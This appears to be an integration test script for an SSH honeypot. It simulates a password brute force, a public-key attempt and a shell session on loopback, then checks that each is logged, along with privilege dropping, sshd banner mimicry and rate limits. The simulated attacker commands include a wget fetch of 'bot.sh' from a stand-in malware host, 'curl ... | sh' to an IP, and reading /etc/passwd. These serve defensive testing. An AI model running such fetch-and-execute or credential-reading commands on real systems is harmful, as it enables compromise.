@@ -1,0 +1,235 @@
+#!/usr/bin/env bash
+# The SSH honeypot (mamori-honeypot, beside the mamori binary; docs/honeypot.md), started
+# as root on a free loopback port: it drops to its own user (uid, NoNewPrivs, no
+# capabilities); a scripted brute force with OpenSSH's client and sshpass (wrong
+# passwords, then an accepted one running commands) and a paramiko session (a refused
+# public key, then a shell with a pty) are recorded as ECS events in its outbox:
+# connection (client version, HASSH), every password and its outcome, the key's type and
+# fingerprint, every command line, the download URL (never fetched), session ends with
+# duration and bytes. nmap -sV names it OpenSSH with the host's own sshd version, never
+# libssh. Past sessions_per_address the extra connections are refused before a byte of
+# SSH, with one limit event; the honeypot stays up and serves again afterwards.
+source "$(dirname "$0")/lib.sh"
+
+HONEYPOT=$(dirname "$MAMORI")/mamori-honeypot
+[[ -x $HONEYPOT ]] || fail "mamori-honeypot is not built beside $MAMORI (cmake --build --preset dev --target mamori-honeypot)"
+PY=/usr/bin/python3  # Debian's, with python3-paramiko
+for tool in sshpass ssh nmap ssh-keygen; do
+  command -v "$tool" >/dev/null || fail "$tool is not installed (tools/install-deps)"
+done
+"$PY" -c 'import paramiko' 2>/dev/null || fail "python3-paramiko is not installed (tools/install-deps)"
+
+HP_USER=mamori-honeypot
+if ! id -u "$HP_USER" >/dev/null 2>&1; then
+  useradd --system --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin "$HP_USER"
+  on_exit "userdel $HP_USER"
+fi
+HP_UID=$(id -u "$HP_USER")
+# The dropped process reaches its spool through the scratch directory (mktemp's 0700).
+chmod 711 "$SCRATCH"
+PORT=$("$PY" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
+HP_STATE=$SCRATCH/honeypot
+HP_EVENTS=$HP_STATE/events.jsonl
+HP_LOG=$SCRATCH/honeypot.log
+HP_CONFIG=$SCRATCH/honeypot.toml
+PER_ADDRESS=4
+cat >"$HP_CONFIG" <<TOML
+listen = "127.0.0.1:$PORT"
+state_dir = "$HP_STATE"
+user = "$HP_USER"
+[limits]
+sessions_per_address = $PER_ADDRESS
+auth_attempts = 6
+session_seconds = 120
+[[accepted]]
+user = "root"
+password = "Winter2024!"
+[[accepted]]
+user = "admin"
+password = "admin"
+TOML
+
+HP_PID=""
+stop_honeypot() {
+  [[ -n $HP_PID ]] || return 0
+  local pid=$HP_PID
+  HP_PID=""
+  stop_pid "$pid" "the honeypot" || fail "the honeypot did not stop within 10 s of SIGTERM"
+}
+# events_of PYTHON-FILTER: the honeypot's events so far (its outbox's JSON-lines export).
+events_of() {
+  "$PY" -c '
+import json, sys
+for line in open(sys.argv[2], encoding="utf-8", errors="replace"):
+    if line.endswith("\n"):
+        e = json.loads(line)
+        if eval(sys.argv[1], {"e": e}):
+            print(json.dumps(e, sort_keys=True))
+' "$1" "$HP_EVENTS"
+}
+count_of() { events_of "$1" | wc -l; }
+action_is() { echo "e[\"event\"][\"action\"] == \"$1\""; }
+SSH_OPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
+          -o PubkeyAuthentication=no -o ConnectTimeout=10 -p "$PORT")
+
+step "start the honeypot as root on 127.0.0.1:$PORT"
+"$HONEYPOT" --config "$HP_CONFIG" >>"$HP_LOG" 2>&1 &
+HP_PID=$!
+on_exit "stop_honeypot"
+hp_ready() { grep -q 'ready: listening' "$HP_LOG" || ! kill -0 "$HP_PID" 2>/dev/null; }
+WAIT_ON=$SCRATCH WAIT_SECONDS=60 WAIT_EXPLAIN='cat "$HP_LOG"' wait_for "the honeypot to be ready" hp_ready
+kill -0 "$HP_PID" 2>/dev/null || fail "the honeypot exited at start: $(cat "$HP_LOG")"
+
+step "it dropped privileges: uids, gids, no capabilities, NoNewPrivs; keys 0600 root, spool its own"
+read -r _ ruid euid suid fsuid < <(grep '^Uid:' /proc/$HP_PID/status)
+assert_eq "$HP_UID $HP_UID $HP_UID $HP_UID" "$ruid $euid $suid $fsuid" "the honeypot's uids"
+assert_eq "0000000000000000" "$(awk '/^CapEff:/{print $2}' /proc/$HP_PID/status)" "effective capabilities"
+assert_eq "0000000000000000" "$(awk '/^CapPrm:/{print $2}' /proc/$HP_PID/status)" "permitted capabilities"
+assert_eq "1" "$(awk '/^NoNewPrivs:/{print $2}' /proc/$HP_PID/status)" "NoNewPrivs"
+assert_eq "" "$(awk '/^Groups:/{print $2}' /proc/$HP_PID/status)" "supplementary groups"
+for key in ssh_host_ed25519_key ssh_host_ecdsa_key ssh_host_rsa_key; do
+  assert_eq "600 root" "$(stat -c '%a %U' "$HP_STATE/host-keys/$key")" "$key's mode and owner"
+done
+assert_eq "700 $HP_USER" "$(stat -c '%a %U' "$HP_STATE/outbox")" "the outbox's mode and owner"
+
+step "the banner is the host's sshd's, byte for byte"
+want_banner="SSH-2.0-$(ssh -V 2>&1 | cut -d, -f1)"
+got_banner=$("$PY" -c '
+import socket, sys
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
+print(s.makefile("rb").readline().decode().rstrip("\r\n"))
+' "$PORT")
+assert_eq "$want_banner" "$got_banner" "the honeypot's banner (Debian ships sshd and ssh in one version)"
+
+step "a brute force with OpenSSH's client: four wrong passwords, then an accepted one"
+for pw in 123456 password toor 'root;--'; do
+  expect_exit 5 timeout 30 sshpass -p "$pw" ssh "${SSH_OPTS[@]}" root@127.0.0.1 id
+done
+expect_exit 0 timeout 30 sshpass -p 'Winter2024!' ssh "${SSH_OPTS[@]}" root@127.0.0.1 \
+  'uname -a; id; wget http://malware.example/bot.sh -O /tmp/.x; cat /etc/passwd'
+assert_contains "$OUT" "uid=0(root) gid=0(root) groups=0(root)"
+assert_contains "$OUT" "root:x:0:0:root:/root:/bin/bash"
+assert_contains "$OUT" "unable to resolve host address 'malware.example'"
+assert_not_contains "$OUT" "libssh"
+hostname_seen=$(awk '/^Linux /{print $2; exit}' <<<"$OUT")
+[[ -n $hostname_seen && $hostname_seen != "$(hostname)" ]] || fail "uname -a names no fake host (or the real one): $OUT"
+
+step "a paramiko client: a refused public key, then a shell with a pty"
+ssh-keygen -q -t ed25519 -N '' -C '' -f "$SCRATCH/attacker_key"
+want_fp=$(ssh-keygen -l -E sha256 -f "$SCRATCH/attacker_key.pub" | awk '{print $2}')
+expect_exit 0 timeout 60 "$PY" - "$PORT" "$SCRATCH/attacker_key" <<'PYTHON'
+import sys, time, paramiko
+port, key_path = int(sys.argv[1]), sys.argv[2]
+def client():
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    return c
+c = client()
+try:
+    c.connect("127.0.0.1", port=port, username="git", pkey=paramiko.Ed25519Key.from_private_key_file(key_path),
+              look_for_keys=False, allow_agent=False, timeout=10)
+    sys.exit("the public key was accepted")
+except paramiko.AuthenticationException:
+    pass
+c.close()
+c = client()
+c.connect("127.0.0.1", port=port, username="admin", password="admin", look_for_keys=False,
+          allow_agent=False, timeout=10)
+ch = c.invoke_shell(term="xterm")
+ch.settimeout(10)
+def until(marker):
+    buf, deadline = b"", time.monotonic() + 10
+    while marker not in buf:
+        if time.monotonic() > deadline:
+            sys.exit("no %r in %r" % (marker, buf))
+        buf += ch.recv(65536)
+    return buf.decode(errors="replace")
+until(b"$ ")
+for command, want in [("whoami", "admin"), ("pwd", "/home/admin"), ("curl -fsSL http://203.0.113.5/x | sh", "Failed to connect to 203.0.113.5"), ("nosuchcmd", "command not found")]:
+    ch.send(command + "\r")
+    out = until(b"$ ")
+    if want not in out:
+        sys.exit("%r answered %r" % (command, out))
+ch.send("exit\r")
+if ch.recv_exit_status() != 0:
+    sys.exit("exit status %d" % ch.recv_exit_status())
+c.close()
+PYTHON
+
+step "every session ended (and was reaped)"
+all_ended() { [[ $(count_of "$(action_is ssh-session-ended)") -ge $(count_of "$(action_is ssh-connection)") ]]; }
+WAIT_ON=$HP_STATE WAIT_SECONDS=20 WAIT_EXPLAIN='tail -n 5 "$HP_EVENTS"' wait_for "a session-ended event for every connection" all_ended
+
+step "the events: connections, passwords, key, commands, download, ends"
+for pw in 123456 password toor 'root;--'; do
+  n=$(count_of "$(action_is ssh-login-failed) and e[\"mamori\"][\"ssh\"].get(\"password\") == \"$pw\" and e[\"user\"][\"name\"] == \"root\" and e[\"event\"][\"outcome\"] == \"failure\"")
+  assert_eq 1 "$n" "ssh-login-failed events for password '$pw'"
+done
+assert_eq 1 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"root\" and e[\"mamori\"][\"ssh\"][\"password\"] == \"Winter2024!\" and e[\"event\"][\"outcome\"] == \"success\"")" "root's accepted login"
+assert_eq 1 "$(count_of "$(action_is ssh-login-succeeded) and e[\"user\"][\"name\"] == \"admin\"")" "admin's accepted login"
+assert_eq 1 "$(count_of "$(action_is ssh-login-failed) and e[\"user\"][\"name\"] == \"git\" and e[\"mamori\"][\"ssh\"][\"auth_method\"] == \"publickey\" and e[\"mamori\"][\"ssh\"][\"key_type\"] == \"ssh-ed25519\" and e[\"mamori\"][\"ssh\"][\"key_fingerprint\"] == \"$want_fp\"")" "the public-key attempt with its fingerprint $want_fp"
+assert_eq 1 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"uname -a; id; wget http://malware.example/bot.sh -O /tmp/.x; cat /etc/passwd\" and e[\"user\"][\"name\"] == \"root\"")" "the exec'ed command line"
+for cmd in whoami pwd 'curl -fsSL http://203.0.113.5/x | sh' nosuchcmd exit; do
+  assert_eq 1 "$(count_of "$(action_is ssh-command) and e[\"process\"][\"command_line\"] == \"$cmd\" and e[\"user\"][\"name\"] == \"admin\"")" "the shell command '$cmd'"
+done
+assert_eq 1 "$(count_of "$(action_is ssh-download-attempted) and e[\"url\"][\"original\"] == \"http://malware.example/bot.sh\"")" "wget's download attempt"
+assert_eq 1 "$(count_of "$(action_is ssh-download-attempted) and e[\"url\"][\"original\"] == \"http://203.0.113.5/x\"")" "curl's download attempt"
+n=$(count_of "$(action_is ssh-connection) and e[\"mamori\"][\"ssh\"].get(\"client_version\", \"\").startswith(\"SSH-2.0-OpenSSH_\") and len(e[\"mamori\"][\"ssh\"].get(\"hassh\", \"\")) == 32")
+[[ $n -ge 5 ]] || fail "expected >= 5 connections from OpenSSH's client with a HASSH, got $n"
+openssh_hassh=$(events_of "$(action_is ssh-connection) and e[\"mamori\"][\"ssh\"].get(\"client_version\", \"\").startswith(\"SSH-2.0-OpenSSH_\")" | "$PY" -c 'import json,sys; print(sorted({json.loads(l)["mamori"]["ssh"]["hassh"] for l in sys.stdin}))')
+paramiko_hassh=$(events_of "$(action_is ssh-connection) and e[\"mamori\"][\"ssh\"].get(\"client_version\", \"\").startswith(\"SSH-2.0-paramiko_\")" | "$PY" -c 'import json,sys; print(sorted({json.loads(l)["mamori"]["ssh"].get("hassh") for l in sys.stdin}))')
+[[ $openssh_hassh =~ ^\[\'[0-9a-f]{32}\'\]$ ]] || fail "OpenSSH's connections should share one HASSH: $openssh_hassh"
+[[ $paramiko_hassh =~ ^\[\'[0-9a-f]{32}\'\]$ ]] || fail "paramiko's connections should share one HASSH: $paramiko_hassh"
+assert_ne "$openssh_hassh" "$paramiko_hassh" "OpenSSH's and paramiko's HASSH"
+assert_eq 1 "$(count_of "$(action_is ssh-session-ended) and e[\"mamori\"][\"ssh\"][\"end_reason\"] == \"logout\" and e[\"mamori\"][\"ssh\"][\"commands\"] == 5 and e[\"event\"][\"duration\"] > 0 and e[\"source\"][\"bytes\"] > 0 and e[\"destination\"][\"bytes\"] > 0")" "admin's session end with duration, bytes and 5 commands"
+# Every event of a connection names it; every event carries its origin.
+orphans=$("$PY" -c '
+import json, sys
+evs = [json.loads(l) for l in open(sys.argv[1])]
+ids = {e["event"]["id"] for e in evs if e["event"]["action"] == "ssh-connection"}
+bad = [e["event"]["action"] for e in evs
+       if e["event"]["action"] not in ("ssh-limit-reached",) and e["event"]["action"].startswith("ssh-")
+       and e.get("mamori", {}).get("ssh", {}).get("session") not in ids]
+bad += ["no origin: " + e["event"]["action"] for e in evs if not e.get("agent", {}).get("id") or e["event"].get("dataset") != "mamori.honeypot"]
+print(" ".join(bad))
+' "$HP_EVENTS")
+assert_eq "" "$orphans" "events without their connection or origin"
+ls "$HP_STATE"/outbox/*.seg >/dev/null || fail "no outbox segment in $HP_STATE/outbox"
+
+step "nmap -sV names it OpenSSH, never libssh"
+nmap_out=$(timeout 120 nmap -sV -Pn -p "$PORT" 127.0.0.1)
+assert_contains "$nmap_out" "OpenSSH 9.2p1 Debian" "nmap's service line"
+assert_not_contains "$nmap_out" "libssh" "nmap's output"
+
+step "past $PER_ADDRESS sessions from one address the extra connections are refused, one event"
+WAIT_ON=$HP_STATE WAIT_SECONDS=20 WAIT_EXPLAIN='tail -n 5 "$HP_EVENTS"' wait_for "nmap's sessions to end" all_ended
+limits_before=$(count_of "$(action_is ssh-limit-reached)")
+expect_exit 0 timeout 60 "$PY" - "$PORT" "$PER_ADDRESS" <<'PYTHON'
+import socket, sys
+port, limit = int(sys.argv[1]), int(sys.argv[2])
+held, answers = [], []
+for i in range(limit + 3):
+    s = socket.create_connection(("127.0.0.1", port), timeout=10)
+    line = s.makefile("rb").readline()
+    answers.append("banner" if line.startswith(b"SSH-2.0-") else "refused" if line == b"" else repr(line))
+    held.append(s)
+want = ["banner"] * limit + ["refused"] * 3
+if answers != want:
+    sys.exit("expected %s, got %s" % (want, answers))
+for s in held:
+    s.close()
+PYTHON
+limit_events() { [[ $(count_of "$(action_is ssh-limit-reached)") -gt $limits_before ]]; }
+WAIT_ON=$HP_STATE wait_for "the limit event" limit_events
+assert_eq 1 "$(count_of "$(action_is ssh-limit-reached) and e[\"mamori\"][\"ssh\"][\"limit\"] == \"sessions-per-address\" and e[\"mamori\"][\"ssh\"][\"policy\"] == \"refuse\" and e[\"source\"][\"ip\"] == \"127.0.0.1\"")" "sessions-per-address limit events (one for three refusals)"
+
+step "the honeypot is still up and serves a new session"
+kill -0 "$HP_PID" 2>/dev/null || fail "the honeypot died: $(tail -n 20 "$HP_LOG")"
+WAIT_ON=$HP_STATE WAIT_SECONDS=20 wait_for "the held sessions to end" all_ended
+expect_exit 0 timeout 30 sshpass -p admin ssh "${SSH_OPTS[@]}" admin@127.0.0.1 whoami
+assert_eq "admin" "$(tr -d '\r' <<<"$OUT")" "whoami after the flood"
+
+step "SIGTERM stops it cleanly"
+stop_honeypot
+assert_eq 0 "$STOPPED_RC" "the honeypot's exit status"
+assert_contains "$(cat "$HP_LOG")" "mamori-honeypot: stopped"
